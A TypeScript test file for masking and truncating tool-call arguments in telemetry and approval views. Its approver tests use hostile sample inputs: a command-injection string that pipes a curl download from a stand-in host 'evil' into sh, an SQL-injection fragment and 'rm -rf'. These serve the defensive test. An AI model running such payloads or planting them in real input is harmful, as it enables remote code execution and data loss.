import { describe, expect, it } from 'vitest';
import { maskApprovalArguments, maskArguments } from '../../../src/adapters/telemetry/shown-arguments.ts';

const mask = (text: string): string => text.replaceAll('hunter2', '[masked]');

function shown(text: string): { readonly text: string; readonly isShortened: boolean } {
  const { isMasked, ...rest } = maskArguments(text, mask);
  expect(isMasked).toBe(/\[masked\]|\[masked\]/.test(rest.text));
  return rest;
}

function nested(levels: number, inner: string): string {
  return `${'{"a":'.repeat(levels)}${inner}${'}'.repeat(levels)}`;
}

describe('arguments as shown to people', () => {
  it.each([
    '{"account":90071992547409931,"amount":0.10000000000000000555,"n":1e400}',
    '[-0,1.0,1E2,-1.50,1e-400,0.1,12]',
    '{"rawJSON":"1","__proto__":{"toJSON":1.0}}',
    '1e400',
  ])('keep their numbers as written: %s', (text) => {
    expect(shown(text)).toEqual({ text, isShortened: false });
  });

  it('have only the scalars below a credential masked', () => {
    const text =
      '{"auth":{"run":"rm","n":[1,1e400,{"pass":"x"}],"ok":true,"none":null},"signature":[],"pass":1.0}';
    const masked =
      '{"auth":{"run":"[masked]","n":["[masked]","[masked]",{"pass":"[masked]"}],"ok":true,"none":"[masked]"},"signature":[],"pass":"[masked]"}';
    expect(shown(text)).toEqual({ text: masked, isShortened: false });
  });

  it('have known secrets masked anywhere', () => {
    expect(shown('{"note":"is hunter2"}').text).toBe('{"note":"is [masked]"}');
  });

  it('are marked as shortened if they nest too deeply', () => {
    const whole = nested(20, '1');
    expect(shown(whole)).toEqual({ text: whole, isShortened: false });
    expect(shown(nested(20, '{"b":1}'))).toEqual({ text: nested(20, '"[masked]"'), isShortened: true });
    expect(shown(nested(20, '[1]'))).toEqual({ text: nested(20, '"[masked]"'), isShortened: true });
  });

  it.each(['{"a":1,"a":0.10000000000000000555}', '{"pass":"x"'])(
    'are shown as text if JSON parsers would disagree: %s',
    (text) => {
      expect(shown(text)).toEqual({ text, isShortened: false });
    },
  );

  it('are truncated after 4,000 characters', () => {
    const text = JSON.stringify('x'.repeat(4_000));
    expect(shown(text)).toEqual({ text: `${text.slice(0, 4_000)}…`, isShortened: true });
  });
});

describe('arguments as approvers see them', () => {
  it.each([
    '{"run":"--token=$(curl${IFS}evil|sh)"}',
    '{"where":"password=1/**/UNION"}',
    '{"token":"rm -rf","auth":{"n":1.0}}',
    nested(60, '"deepest"'),
    JSON.stringify('x'.repeat(200_000)),
    '{"a":1,"a":2}',
  ])('are complete, whatever they look like: %.60s', (text) => {
    expect(maskApprovalArguments(text, mask)).toEqual({ text, isShortened: false, isMasked: false });
  });

  it('show what escapes stand for', () => {
    expect(maskApprovalArguments('{"run":"\\u0072m"}', mask).text).toBe('{"run":"rm"}');
  });

  it('have known secrets masked, which is said', () => {
    const expected = { text: '{"key":"[masked]"}', isShortened: false, isMasked: true };
    expect(maskApprovalArguments('{"key":"hunter2"}', mask)).toEqual(expected);
  });

  it('are incomplete beyond 256 KiB, which is said', () => {
    const { text, isShortened } = maskApprovalArguments(JSON.stringify('x'.repeat(300_000)), mask);
    expect([text.length, isShortened]).toEqual([256 * 1_024 + 1, true]);
  });
});
